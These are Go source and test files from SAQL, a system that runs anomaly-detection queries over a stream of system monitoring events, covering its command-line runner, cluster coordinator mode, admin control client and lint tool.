			if err := saql.Validate(s.src); err != nil {
				return fmt.Errorf("%s: %w", s.name, err)
			}
			fmt.Fprintf(out, "%-40s OK\n", s.name)
		}
		return nil
	}

	// The alert handler is invoked serially in both the sharded runtime and
	// the legacy serial path, so the counter needs no synchronisation.
	var alertCount int
	engOpts := []saql.Option{
		saql.WithSharing(!*noShare),
		saql.WithAlertHandler(func(a *saql.Alert) {
			alertCount++
			if !*quiet {
				fmt.Fprintln(out, a)
			}
		}),
	}
	if *shards > 0 {
		engOpts = append(engOpts, saql.WithShards(*shards))
	}
	eng := saql.New(engOpts...)
	for _, s := range sources {
		if err := eng.AddQuery(s.name, s.src); err != nil {
			return fmt.Errorf("%s: %w", s.name, err)
		}
	}
	fmt.Fprintf(out, "registered %d queries in %d scheduler groups\n", eng.Stats().Queries, eng.Stats().QueryGroups)

	sharded := *shards != 0
	if *input != "" && !sharded {
		return fmt.Errorf("-input needs the concurrent runtime (drop -shards 0)")
	}
	if sharded {
		if err := eng.Start(context.Background()); err != nil {
			return err
		}
		fmt.Fprintf(out, "concurrent runtime: %d shards\n", eng.Shards())
		for _, s := range sources {
			if p, ok := eng.QueryPlacement(s.name); ok {
				fmt.Fprintf(out, "  %-40s placement=%s\n", s.name, p)
			}
		}
	}
	// feed delivers one event through whichever ingestion path is active.
	feed := func(ev *saql.Event) {
		if sharded {
			if err := eng.Submit(ev); err != nil {
				fmt.Fprintln(os.Stderr, "saql: submit:", err)
			}
			return
		}
		eng.Process(ev)
	}

	started := time.Now()
	var events int64
	var logStats saql.SourceStats
	switch {
	case *input != "":
		src, err := openInput(*input, *format, *agent, *follow, *strictOrder, *batch)
		if err != nil {
			return err
		}
		if a := src.Addr(); a != nil {
			fmt.Fprintf(out, "listening on %s (%s)\n", a, *format)
		}
		// Live modes (-follow, tcp://) run until interrupted; Ctrl-C ends
		// the source cleanly so open windows still flush and the summary
		// prints.
		ctx, stopSignals := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
		err = src.Run(ctx, eng)
		stopSignals()
		if err != nil && !errors.Is(err, context.Canceled) {
			return err
		}
		logStats = src.Stats()
		events = logStats.Events

	case *storeDir != "":
		store, err := saql.OpenStore(*storeDir, saql.StoreOptions{})
		if err != nil {
			return err
		}
		opts := saql.ReplayOptions{Hosts: hosts, Speed: *speed}
		if *from != "" {
			t, err := time.Parse(time.RFC3339, *from)
			if err != nil {
				return fmt.Errorf("bad -from: %w", err)
			}
			opts.From = t
		}
		if *to != "" {
			t, err := time.Parse(time.RFC3339, *to)
			if err != nil {
				return fmt.Errorf("bad -to: %w", err)
			}
			opts.To = t
		}
		rep := saql.NewReplayer(store)
		ch, wait := rep.ReplayChan(context.Background(), opts, 256)
		for ev := range ch {
			feed(ev)
			events++
		}
		if _, err := wait(); err != nil {
			return err
		}

	case *simulate:
		start := time.Now().UTC().Truncate(time.Minute)
		wl, err := saql.NewWorkload(saql.WorkloadConfig{
			Hosts: []saql.Host{
				{AgentID: "ws-victim", Kind: saql.Workstation},
				{AgentID: "ws-2", Kind: saql.Workstation},
				{AgentID: "mail-1", Kind: saql.MailServer},
				{AgentID: "web-1", Kind: saql.WebServer},
				{AgentID: "db-1", Kind: saql.DBServer},
			},
			Start: start, Duration: *duration, Seed: *seed,
		})
		if err != nil {
			return err
		}
		scenario.Start = start.Add(*duration / 3)
		all := wl.Drain()
		all = append(all, saql.AttackEventsOnly(scenario.Events())...)
		sort.SliceStable(all, func(i, j int) bool { return all[i].Time.Before(all[j].Time) })
		if sharded {
			for i := 0; i < len(all); i += *batch {
				end := min(i+*batch, len(all))
				if err := eng.SubmitBatch(all[i:end]); err != nil {
					return err
				}
			}
			events = int64(len(all))
			break
		}
		for _, ev := range all {
			feed(ev)
			events++
		}

	default:
		return fmt.Errorf("no event source: use -input, -store, or -simulate")
	}

	if sharded {
		// Close drains the queue, flushes every shard, and delivers the
		// final alerts before returning.
		if err := eng.Close(); err != nil {
			return err
		}
	} else {
		eng.Flush()
	}

	wall := time.Since(started)
	st := eng.Stats()
	fmt.Fprintf(out, "\n--- summary ---\n")
	fmt.Fprintf(out, "events processed : %d (%.0f events/s)\n", events, float64(events)/wall.Seconds())
	fmt.Fprintf(out, "alerts raised    : %d\n", alertCount)
	fmt.Fprintf(out, "stream copies    : %d (naive per-query: %d, sharing ratio %.2fx)\n",
		st.StreamCopies, st.NaiveCopies, st.SharingRatio)
	if *input != "" {
		fmt.Fprintf(out, "log lines read   : %d (%d undecodable, %d reordered, %d dropped out-of-order)\n",
			logStats.Lines, logStats.DecodeErrors, logStats.Reordered, logStats.Dropped)
	}
	if st.Dropped > 0 {
		fmt.Fprintf(out, "events dropped   : %d (ingest overflow)\n", st.Dropped)
	}
	if n := eng.ErrorCount(); n > 0 {
		fmt.Fprintf(out, "runtime errors   : %d (last: %v)\n", n, eng.Errors()[len(eng.Errors())-1])
	}
	return nil
}

// openInput builds the log source for -input: "-" reads stdin, a tcp://
// address listens for connections, anything else opens a file.
func openInput(input, format, agent string, follow, strictOrder bool, batch int) (*saql.Source, error) {
	opts := []saql.SourceOption{
		saql.WithFormat(format),
		saql.WithBatchSize(batch),
	}
	if agent != "" {
		opts = append(opts, saql.WithSourceAgent(agent))
	}
	if strictOrder {
		opts = append(opts, saql.WithStrictOrder())
	}
	if addr, ok := strings.CutPrefix(input, "tcp://"); ok {
		return saql.ListenTCP(addr, opts...)
	}
	if follow {
		opts = append(opts, saql.WithFollow())
	}
	return saql.OpenLogFile(input, opts...)
}
