// Command saql is the command-line UI of the SAQL system (Figure 3 of the
// paper): it registers anomaly queries and executes them against a stream of
// system monitoring data, printing alerts in real time.
//
// The stream source is either a stored dataset replayed through the stream
// replayer (-store, with -hosts/-from/-to/-speed selection) or a live
// simulation of the enterprise plus the APT attack (-simulate).
//
// Usage:
//
//	saql -simulate -duration 10m -q query1.saql -q query2.saql
//	saql -store ./data -hosts db-1 -speed 100 -q exfil.saql
//	saql -simulate -demo-queries        # run the paper's 8 demo queries
//	saql -simulate -demo-queries -shards 8   # concurrent sharded runtime
//	saql -validate -q query.saql        # parse/check only
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"sort"
	"strings"
	"time"

	"saql"
)

type multiFlag []string

func (m *multiFlag) String() string { return strings.Join(*m, ",") }
func (m *multiFlag) Set(s string) error {
	*m = append(*m, s)
	return nil
}

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "saql:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		queryFiles  multiFlag
		inline      multiFlag
		hosts       multiFlag
		storeDir    = flag.String("store", "", "replay events from this store directory")
		from        = flag.String("from", "", "replay start time (RFC3339)")
		to          = flag.String("to", "", "replay end time (RFC3339)")
		speed       = flag.Float64("speed", 0, "replay speed multiplier (0 = max)")
		simulate    = flag.Bool("simulate", false, "generate a live enterprise simulation with the APT attack")
		duration    = flag.Duration("duration", 10*time.Minute, "simulation duration")
		seed        = flag.Int64("seed", 42, "simulation seed")
		demoQueries = flag.Bool("demo-queries", false, "register the paper's 8 demonstration queries")
		window      = flag.Duration("window", 30*time.Second, "window length for demo queries")
		train       = flag.Int("train", 5, "invariant training windows for demo queries")
		noShare     = flag.Bool("no-share", false, "disable the master-dependent-query scheme")
		shards      = flag.Int("shards", 0, "run the concurrent sharded runtime with this many workers (0 = legacy serial path, -1 = GOMAXPROCS)")
		batch       = flag.Int("batch", 256, "SubmitBatch size for the sharded runtime")
		validate    = flag.Bool("validate", false, "validate queries and exit")
		quiet       = flag.Bool("quiet", false, "suppress per-alert output, print only the summary")
	)
	flag.Var(&queryFiles, "q", "SAQL query file (repeatable)")
	flag.Var(&inline, "e", "inline SAQL query text (repeatable)")
	flag.Var(&hosts, "hosts", "replay only these agent ids (repeatable)")
	flag.Parse()

	// Assemble the query set.
	type namedSrc struct{ name, src string }
	var sources []namedSrc
	for _, f := range queryFiles {
		data, err := os.ReadFile(f)
		if err != nil {
			return err
		}
		sources = append(sources, namedSrc{name: strings.TrimSuffix(f, ".saql"), src: string(data)})
	}
	for i, src := range inline {
		sources = append(sources, namedSrc{name: fmt.Sprintf("inline-%d", i+1), src: src})
	}

	scenario := &saql.AttackScenario{
		Workstation: "ws-victim", MailServer: "mail-1", DBServer: "db-1",
		AttackerIP: "172.16.0.129",
	}
	if *demoQueries {
		for _, nq := range scenario.DemoQueries(*window, *train) {
			sources = append(sources, namedSrc{name: nq.Name, src: nq.SAQL})
		}
	}
	if len(sources) == 0 {
		return fmt.Errorf("no queries given (use -q, -e, or -demo-queries)")
	}

	if *validate {
		for _, s := range sources {
			if err := saql.Validate(s.src); err != nil {
				return fmt.Errorf("%s: %w", s.name, err)
			}
			fmt.Printf("%-40s OK\n", s.name)
		}
		return nil
	}

	// The alert handler is invoked serially in both the legacy serial path
	// and the sharded runtime, so the counter needs no synchronisation.
	var alertCount int
	engOpts := []saql.Option{
		saql.WithSharing(!*noShare),
		saql.WithAlertHandler(func(a *saql.Alert) {
			alertCount++
			if !*quiet {
				fmt.Println(a)
			}
		}),
	}
	if *shards > 0 {
		engOpts = append(engOpts, saql.WithShards(*shards))
	}
	eng := saql.New(engOpts...)
	for _, s := range sources {
		if err := eng.AddQuery(s.name, s.src); err != nil {
			return fmt.Errorf("%s: %w", s.name, err)
		}
	}
	fmt.Printf("registered %d queries in %d scheduler groups\n", eng.Stats().Queries, eng.Stats().QueryGroups)

	sharded := *shards != 0
	if sharded {
		if err := eng.Start(context.Background()); err != nil {
			return err
		}
		fmt.Printf("concurrent runtime: %d shards\n", eng.Shards())
		for _, s := range sources {
			if p, ok := eng.QueryPlacement(s.name); ok {
				fmt.Printf("  %-40s placement=%s\n", s.name, p)
			}
		}
	}
	// feed delivers one event through whichever ingestion path is active.
	feed := func(ev *saql.Event) {
		if sharded {
			if err := eng.Submit(ev); err != nil {
				fmt.Fprintln(os.Stderr, "saql: submit:", err)
			}
			return
		}
		eng.Process(ev)
	}

	started := time.Now()
	var events int64
	switch {
	case *storeDir != "":
		store, err := saql.OpenStore(*storeDir, saql.StoreOptions{})
		if err != nil {
			return err
		}
		opts := saql.ReplayOptions{Hosts: hosts, Speed: *speed}
		if *from != "" {
			t, err := time.Parse(time.RFC3339, *from)
			if err != nil {
				return fmt.Errorf("bad -from: %w", err)
			}
			opts.From = t
		}
		if *to != "" {
			t, err := time.Parse(time.RFC3339, *to)
			if err != nil {
				return fmt.Errorf("bad -to: %w", err)
			}
			opts.To = t
		}
		rep := saql.NewReplayer(store)
		ch, wait := rep.ReplayChan(context.Background(), opts, 256)
		for ev := range ch {
			feed(ev)
			events++
		}
		if _, err := wait(); err != nil {
			return err
		}

	case *simulate:
		start := time.Now().UTC().Truncate(time.Minute)
		wl, err := saql.NewWorkload(saql.WorkloadConfig{
			Hosts: []saql.Host{
				{AgentID: "ws-victim", Kind: saql.Workstation},
				{AgentID: "ws-2", Kind: saql.Workstation},
				{AgentID: "mail-1", Kind: saql.MailServer},
				{AgentID: "web-1", Kind: saql.WebServer},
				{AgentID: "db-1", Kind: saql.DBServer},
			},
			Start: start, Duration: *duration, Seed: *seed,
		})
		if err != nil {
			return err
		}
		scenario.Start = start.Add(*duration / 3)
		all := wl.Drain()
		all = append(all, saql.AttackEventsOnly(scenario.Events())...)
		sort.SliceStable(all, func(i, j int) bool { return all[i].Time.Before(all[j].Time) })
		if sharded {
			for i := 0; i < len(all); i += *batch {
				end := min(i+*batch, len(all))
				if err := eng.SubmitBatch(all[i:end]); err != nil {
					return err
				}
			}
			events = int64(len(all))
			break
		}
		for _, ev := range all {
			eng.Process(ev)
			events++
		}

	default:
		return fmt.Errorf("no event source: use -store or -simulate")
	}

	if sharded {
		// Close drains the queue, flushes every shard, and delivers the
		// final alerts before returning.
		if err := eng.Close(); err != nil {
			return err
		}
	} else {
		eng.Flush()
	}

	wall := time.Since(started)
	st := eng.Stats()
	fmt.Printf("\n--- summary ---\n")
	fmt.Printf("events processed : %d (%.0f events/s)\n", events, float64(events)/wall.Seconds())
	fmt.Printf("alerts raised    : %d\n", alertCount)
	fmt.Printf("stream copies    : %d (naive per-query: %d, sharing ratio %.2fx)\n",
		st.StreamCopies, st.NaiveCopies, st.SharingRatio)
	if st.Dropped > 0 {
		fmt.Printf("events dropped   : %d (ingest overflow)\n", st.Dropped)
	}
	if n := eng.ErrorCount(); n > 0 {
		fmt.Printf("runtime errors   : %d (last: %v)\n", n, eng.Errors()[len(eng.Errors())-1])
	}
	return nil
}
