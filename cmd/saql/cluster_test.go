package main

import (
	"fmt"
	"net"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"

	"saql"
	"saql/internal/dist"
)

// waitForOutput polls a syncWriter until substr shows up.
func waitForOutput(t *testing.T, out *syncWriter, substr string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(out.String(), substr) {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %q in output:\n%s", substr, out.String())
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestRunStoreSIGTERMGraceful pins the batch-mode shutdown path: SIGTERM
// during a paced store replay stops the feed, but the run still drains what
// it ingested, flushes open windows, writes the final checkpoint, and
// prints the summary — a graceful exit, not a kill.
func TestRunStoreSIGTERMGraceful(t *testing.T) {
	storeDir := t.TempDir()
	store, err := saql.OpenStore(storeDir, saql.StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	base := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
	var evs []*saql.Event
	for i := 0; i < 600; i++ {
		evs = append(evs, &saql.Event{
			// One event per second: at -speed 1 this replay runs for ten
			// minutes, so the test's SIGTERM always lands mid-stream.
			Time:    base.Add(time.Duration(i) * time.Second),
			AgentID: "db-1",
			Subject: saql.Process("sqlservr.exe", 2001),
			Op:      saql.OpWrite,
			Object:  saql.NetConn("10.0.0.2", 1433, "10.1.0.3", 443),
			Amount:  2000000, // every event trips big-write
		})
	}
	if err := store.AppendAll(evs); err != nil {
		t.Fatal(err)
	}
	if err := store.Close(); err != nil {
		t.Fatal(err)
	}

	ckptDir := t.TempDir()
	out := &syncWriter{}
	done := make(chan error, 1)
	go func() {
		done <- run([]string{
			"-store", storeDir, "-speed", "1", "-quiet",
			"-checkpoint-dir", ckptDir,
			"-e", plainRule,
		}, out)
	}()
	waitForOutput(t, out, "concurrent runtime:")
	// Let at least one event through so the drain has real work.
	time.Sleep(300 * time.Millisecond)
	if err := syscall.Kill(os.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("run: %v\noutput:\n%s", err, out.String())
		}
	case <-time.After(15 * time.Second):
		t.Fatalf("run did not exit after SIGTERM:\n%s", out.String())
	}
	got := out.String()
	for _, want := range []string{"interrupted: stopping replay", "checkpoint written:", "--- summary ---"} {
		if !strings.Contains(got, want) {
			t.Errorf("missing %q in output:\n%s", want, got)
		}
	}

	// The checkpoint is usable: a restore run picks up where SIGTERM left
	// off instead of starting cold.
	var out2 syncWriter
	err = run([]string{
		"-store", storeDir, "-speed", "0", "-quiet", "-to", base.Add(time.Second).Format(time.RFC3339),
		"-checkpoint-dir", ckptDir,
		"-e", plainRule,
	}, &out2)
	if err != nil {
		t.Fatalf("restore run: %v\noutput:\n%s", err, out2.String())
	}
	if !strings.Contains(out2.String(), "restored 1 queries") {
		t.Errorf("second run did not restore:\n%s", out2.String())
	}
}

// startTestWorker runs an in-test saql-worker equivalent: a TCP listener
// whose accepted connections are served by dist workers over dir.
func startTestWorker(t *testing.T, dir string) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Skipf("no TCP listener available: %v", err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			w := dist.NewWorker(dist.WorkerConfig{Dir: dir, Shards: 1})
			_ = w.Serve(conn)
		}
	}()
	return ln.Addr().String()
}

// TestRunClusterSimulate drives cmd/saql's coordinator mode end to end over
// real sockets: two workers, the simulated enterprise stream fanned out,
// alerts streamed back, clean cluster shutdown, summary printed.
func TestRunClusterSimulate(t *testing.T) {
	addr1 := startTestWorker(t, t.TempDir())
	addr2 := startTestWorker(t, t.TempDir())

	out := &syncWriter{}
	err := run([]string{
		"-simulate", "-duration", "1m", "-quiet",
		"-cluster", addr1 + "," + addr2,
		"-e", plainRule,
	}, out)
	if err != nil {
		t.Fatalf("run: %v\noutput:\n%s", err, out.String())
	}
	got := out.String()
	for _, want := range []string{
		fmt.Sprintf("worker %-24s", addr1),
		fmt.Sprintf("worker %-24s", addr2),
		"registered 1 queries on 2 workers",
		"--- summary ---",
		"alerts raised",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing %q in output:\n%s", want, got)
		}
	}
}

// TestRunClusterNeedsSource pins the flag validation.
func TestRunClusterNeedsSource(t *testing.T) {
	var out syncWriter
	err := run([]string{"-cluster", "localhost:1", "-e", plainRule}, &out)
	if err == nil || !strings.Contains(err.Error(), "-store or -simulate") {
		t.Errorf("err = %v, want source requirement", err)
	}
}
