package main

// Cluster coordinator mode: -cluster "host1:7443,host2:7443" turns this
// process into the coordinator of a distributed SAQL deployment. Each
// address is a running saql-worker owning a contiguous slice of the
// group-key hash space; the coordinator broadcasts the event stream and the
// queryset to every worker and prints the alerts they stream back — the
// union is alert-for-alert what a single serial engine would have raised.

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/signal"
	"sync"
	"syscall"
	"time"

	"saql"
	"saql/internal/dist"
)

type clusterParams struct {
	addrs     []string
	set       *saql.QuerySet
	scenario  *saql.AttackScenario
	storeDir  string
	hosts     []string
	from, to  string
	speed     float64
	simulate  bool
	duration  time.Duration
	seed      int64
	batch     int
	quiet     bool
	ckptEvery time.Duration
}

func runCluster(out io.Writer, p clusterParams) error {
	if p.storeDir == "" && !p.simulate {
		return fmt.Errorf("-cluster needs -store or -simulate as the event source")
	}

	var outMu sync.Mutex
	var alertCount int64
	coord := dist.NewCoordinator(dist.Config{
		OnAlert: func(a *saql.Alert) {
			alertCount++
			if !p.quiet {
				outMu.Lock()
				fmt.Fprintln(out, a)
				outMu.Unlock()
			}
		},
		Logf: func(format string, a ...any) {
			outMu.Lock()
			fmt.Fprintf(out, format+"\n", a...)
			outMu.Unlock()
		},
	})

	// Dial every worker and hand each an even slice of the hash space. The
	// worker's address doubles as its cluster identity.
	tr := dist.TCP{Timeout: 10 * time.Second}
	ranges := dist.SplitRanges(len(p.addrs))
	for i, addr := range p.addrs {
		conn, err := tr.Dial(addr)
		if err != nil {
			return fmt.Errorf("worker %s: %w", addr, err)
		}
		if err := coord.AddWorker(addr, conn, ranges[i]); err != nil {
			return fmt.Errorf("worker %s: %w", addr, err)
		}
	}
	for id, rs := range coord.Workers() {
		outMu.Lock()
		fmt.Fprintf(out, "worker %-24s ranges=%v\n", id, rs)
		outMu.Unlock()
	}
	for _, name := range p.set.Names() {
		src, _ := p.set.Source(name)
		if err := coord.Register(name, src); err != nil {
			return fmt.Errorf("register %s: %w", name, err)
		}
	}
	outMu.Lock()
	fmt.Fprintf(out, "registered %d queries on %d workers\n", p.set.Len(), len(p.addrs))
	outMu.Unlock()

	// SIGTERM/SIGINT stops the feed; the coordinator then closes cleanly,
	// which flushes every worker's open windows, checkpoints each state
	// directory, and drains the last alerts.
	ctx, stopSignals := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stopSignals()

	// Heartbeats keep worker leases fresh during idle stretches; periodic
	// cluster-wide checkpoint barriers bound every worker's replay tail.
	tickStop := make(chan struct{})
	tickDone := make(chan struct{})
	go func() {
		defer close(tickDone)
		hb := time.NewTicker(10 * time.Second)
		defer hb.Stop()
		var ckpt <-chan time.Time
		if p.ckptEvery > 0 {
			t := time.NewTicker(p.ckptEvery)
			defer t.Stop()
			ckpt = t.C
		}
		for {
			select {
			case <-tickStop:
				return
			case <-hb.C:
				if err := coord.Heartbeat(); err != nil {
					fmt.Fprintln(os.Stderr, "saql: heartbeat:", err)
				}
			case <-ckpt:
				if err := coord.Checkpoint(); err != nil {
					fmt.Fprintln(os.Stderr, "saql: cluster checkpoint:", err)
				}
			}
		}
	}()
	stopTicker := func() { close(tickStop); <-tickDone }

	started := time.Now()
	var events int64
	feedErr := func() error {
		if p.simulate {
			all, err := simulationEvents(p.scenario, p.duration, p.seed)
			if err != nil {
				return err
			}
			for i := 0; i < len(all); i += p.batch {
				if ctx.Err() != nil {
					return nil
				}
				end := min(i+p.batch, len(all))
				if err := coord.SubmitBatch(all[i:end]); err != nil {
					return err
				}
				events += int64(end - i)
			}
			return nil
		}
		store, err := saql.OpenStore(p.storeDir, saql.StoreOptions{})
		if err != nil {
			return err
		}
		opts := saql.ReplayOptions{Hosts: p.hosts, Speed: p.speed}
		if p.from != "" {
			t, err := time.Parse(time.RFC3339, p.from)
			if err != nil {
				return fmt.Errorf("bad -from: %w", err)
			}
			opts.From = t
		}
		if p.to != "" {
			t, err := time.Parse(time.RFC3339, p.to)
			if err != nil {
				return fmt.Errorf("bad -to: %w", err)
			}
			opts.To = t
		}
		rep := saql.NewReplayer(store)
		ch, wait := rep.ReplayChan(ctx, opts, p.batch)
		buf := make([]*saql.Event, 0, p.batch)
		flush := func() error {
			if len(buf) == 0 {
				return nil
			}
			if err := coord.SubmitBatch(buf); err != nil {
				return err
			}
			events += int64(len(buf))
			buf = buf[:0]
			return nil
		}
		for ev := range ch {
			buf = append(buf, ev)
			if len(buf) == p.batch {
				if err := flush(); err != nil {
					return err
				}
			}
		}
		if err := flush(); err != nil {
			return err
		}
		if _, err := wait(); err != nil && ctx.Err() == nil {
			return err
		}
		return nil
	}()
	stopTicker()
	stopSignals()
	if feedErr != nil {
		coord.Close()
		return feedErr
	}

	// Close flushes end-of-stream windows on every worker, takes each one's
	// final checkpoint, and collects the remaining alerts before the
	// summary prints.
	if err := coord.Close(); err != nil {
		return fmt.Errorf("cluster shutdown: %w", err)
	}
	wall := time.Since(started)
	fmt.Fprintf(out, "\n--- summary ---\n")
	fmt.Fprintf(out, "events fanned out: %d to %d workers (%.0f events/s)\n",
		events, len(p.addrs), float64(events)/wall.Seconds())
	fmt.Fprintf(out, "alerts raised    : %d\n", alertCount)
	return nil
}
