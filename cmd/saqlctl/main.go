// Command saqlctl drives a running saql process's admin API (started with
// saql -admin-addr) through the compact admin query DSL: one call per
// invocation, rendered as an aligned table or raw JSON.
//
// Reads:
//
//	saqlctl -addr 127.0.0.1:8471 q 'list(queries){id tenant paused alerts_1h}'
//	saqlctl -addr 127.0.0.1:8471 q 'list(tenants)'
//	saqlctl -addr 127.0.0.1:8471 q 'get(acme/exfil-volume)'
//
// Mutations change live engine state and therefore require -confirm — the
// server refuses them otherwise (HTTP 409), so an agent driving this tool
// must explicitly acknowledge the side effect:
//
//	saqlctl -addr ... -confirm q 'pause(acme/exfil-volume)'
//	saqlctl -addr ... -confirm q 'quota(acme, alert_budget=100, alert_window=30m)'
//	saqlctl -addr ... -confirm -f rules.saqlset q 'apply()'
//	saqlctl -addr ... -confirm -f new.saql q 'update(acme/exfil-volume)'
//
// The -f flag supplies the request body (new query source for update, a
// queryset document for apply); "-" reads it from stdin.
package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"

	"saql/internal/admin"
)

func main() {
	err := run(os.Args[1:], os.Stdout)
	if errors.Is(err, flag.ErrHelp) {
		return
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "saqlctl:", err)
		os.Exit(1)
	}
}

func run(args []string, out io.Writer) error {
	fs := flag.NewFlagSet("saqlctl", flag.ContinueOnError)
	var (
		addr    = fs.String("addr", "127.0.0.1:8471", "admin API address of the saql process (-admin-addr)")
		confirm = fs.Bool("confirm", false, "acknowledge a mutating call (pause/resume/update/apply/quota)")
		output  = fs.String("o", "table", "output format: table or json")
		file    = fs.String("f", "", "request body file for update/apply ('-' = stdin)")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	rest := fs.Args()
	if len(rest) != 2 || rest[0] != "q" {
		return fmt.Errorf("usage: saqlctl [-addr HOST:PORT] [-confirm] [-o table|json] [-f FILE] q '<call>'")
	}
	dsl := rest[1]
	call, err := admin.Parse(dsl)
	if err != nil {
		return err
	}

	var body io.Reader
	if *file != "" {
		var data []byte
		if *file == "-" {
			data, err = io.ReadAll(os.Stdin)
		} else {
			data, err = os.ReadFile(*file)
		}
		if err != nil {
			return err
		}
		body = bytes.NewReader(data)
	}

	resp, err := admin.Query(*addr, dsl, *confirm, body)
	if err != nil {
		return err
	}
	switch *output {
	case "json":
		enc := json.NewEncoder(out)
		enc.SetIndent("", "  ")
		enc.SetEscapeHTML(false)
		return enc.Encode(resp)
	case "table":
		admin.RenderTable(out, resp, admin.FieldsFor(call))
		return nil
	default:
		return fmt.Errorf("unknown output format %q (want table or json)", *output)
	}
}
