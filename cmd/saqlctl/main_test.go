package main

import (
	"net/http/httptest"
	"strings"
	"testing"

	"saql"
	"saql/internal/admin"
)

func startAdmin(t *testing.T) (*saql.Engine, string) {
	t.Helper()
	eng := saql.New()
	t.Cleanup(func() { eng.Close() })
	for _, name := range []string{"acme/exfil", "solo"} {
		if _, err := eng.Register(name, `proc p read file f return p`); err != nil {
			t.Fatal(err)
		}
	}
	srv := httptest.NewServer(admin.NewServer(eng).Handler())
	t.Cleanup(srv.Close)
	return eng, strings.TrimPrefix(srv.URL, "http://")
}

func TestCtlList(t *testing.T) {
	_, addr := startAdmin(t)
	var sb strings.Builder
	err := run([]string{"-addr", addr, "q", `list(queries){id tenant paused}`}, &sb)
	if err != nil {
		t.Fatal(err)
	}
	out := sb.String()
	for _, want := range []string{"ID", "TENANT", "acme/exfil", "solo", "default"} {
		if !strings.Contains(out, want) {
			t.Errorf("output missing %q:\n%s", want, out)
		}
	}
}

func TestCtlJSON(t *testing.T) {
	_, addr := startAdmin(t)
	var sb strings.Builder
	if err := run([]string{"-addr", addr, "-o", "json", "q", `list(tenants){name queries}`}, &sb); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(sb.String(), `"name": "acme"`) {
		t.Errorf("json output:\n%s", sb.String())
	}
}

func TestCtlMutationNeedsConfirm(t *testing.T) {
	eng, addr := startAdmin(t)
	var sb strings.Builder
	err := run([]string{"-addr", addr, "q", `pause(acme/exfil)`}, &sb)
	if err == nil || !strings.Contains(err.Error(), "confirm") {
		t.Fatalf("unconfirmed pause error = %v", err)
	}
	if h, _ := eng.Query("acme/exfil"); h.Paused() {
		t.Fatal("unconfirmed pause took effect")
	}
	if err := run([]string{"-addr", addr, "-confirm", "q", `pause(acme/exfil)`}, &sb); err != nil {
		t.Fatal(err)
	}
	if h, _ := eng.Query("acme/exfil"); !h.Paused() {
		t.Fatal("confirmed pause did not take effect")
	}
}

func TestCtlUsage(t *testing.T) {
	var sb strings.Builder
	if err := run([]string{"list(queries)"}, &sb); err == nil || !strings.Contains(err.Error(), "usage:") {
		t.Errorf("bad usage error = %v", err)
	}
}
