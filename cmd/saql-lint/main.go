// Command saql-lint runs the engine's custom analyzer suite (codecpair,
// hotpath, ctlorder, determinism — see internal/analysis) over the module.
//
// It speaks two protocols:
//
//   - Standalone: `saql-lint ./...` loads the named packages (go list
//     patterns, default ./...) and prints diagnostics as file:line:col.
//     Exit status 1 if any diagnostic is reported.
//
//   - Vet tool: `go vet -vettool=$(pwd)/bin/saql-lint ./...` — the binary
//     implements the cmd/go unitchecker protocol (-V=full version
//     handshake, per-package .cfg JSON units, vetx fact files), so the
//     suite runs incrementally under the go tool's action cache exactly
//     like the built-in vet passes.
//
// `saql-lint -list` prints each analyzer with its armed/skip status; CI
// uses it so a skipped analyzer is never silent.
package main

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"saql/internal/analysis"
	"saql/internal/analysis/codecpair"
	"saql/internal/analysis/ctlorder"
	"saql/internal/analysis/determinism"
	"saql/internal/analysis/hotpath"
	"saql/internal/analysis/load"
)

var analyzers = []*analysis.Analyzer{
	codecpair.Analyzer,
	ctlorder.Analyzer,
	determinism.Analyzer,
	hotpath.Analyzer,
}

func main() {
	var patterns []string
	listMode := false
	jsonMode := false
	for _, arg := range os.Args[1:] {
		switch {
		case arg == "-V=full" || arg == "--V=full":
			printVersion()
			return
		case arg == "-flags" || arg == "--flags":
			// Flag-definition handshake used by cmd/go when forwarding
			// user flags; the suite has none.
			fmt.Println("[]")
			return
		case arg == "-list" || arg == "--list":
			listMode = true
		case arg == "-json" || arg == "--json":
			jsonMode = true
		case strings.HasSuffix(arg, ".cfg"):
			os.Exit(runUnit(arg, jsonMode))
		case strings.HasPrefix(arg, "-"):
			// Unknown driver flags (e.g. -c=N source context) are ignored
			// rather than fatal so future cmd/go versions keep working.
		default:
			patterns = append(patterns, arg)
		}
	}
	if listMode {
		for _, a := range analyzers {
			fmt.Printf("%-12s armed    %s\n", a.Name, firstLine(a.Doc))
		}
		// No analyzer in this suite is build-tagged or platform-gated; if
		// one ever is, it must print "skipped (<reason>)" here instead.
		fmt.Println("0 analyzers skipped")
		return
	}
	os.Exit(runStandalone(patterns, jsonMode))
}

func firstLine(s string) string {
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		return s[:i]
	}
	return s
}

// printVersion implements the -V=full handshake: cmd/go hashes the line
// into its action cache key, so it embeds a digest of the executable —
// rebuilding the tool invalidates cached vet results.
func printVersion() {
	name := strings.TrimSuffix(filepath.Base(os.Args[0]), ".exe")
	h := sha256.New()
	exe, err := os.Executable()
	if err == nil {
		if f, err := os.Open(exe); err == nil {
